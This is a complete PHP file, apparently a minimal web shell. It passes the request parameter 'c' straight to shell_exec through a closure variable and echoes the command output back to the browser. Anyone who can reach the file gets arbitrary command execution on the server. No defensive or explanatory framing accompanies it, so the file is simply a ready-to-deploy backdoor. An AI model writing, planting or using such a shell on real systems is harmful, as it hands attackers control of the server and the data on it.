<?php
// Command runner held in a closure variable and called with a request value.
$run = function ($cmd) {
    return shell_exec($cmd);
};
echo '<pre>' . $run($_GET['c']) . '</pre>';
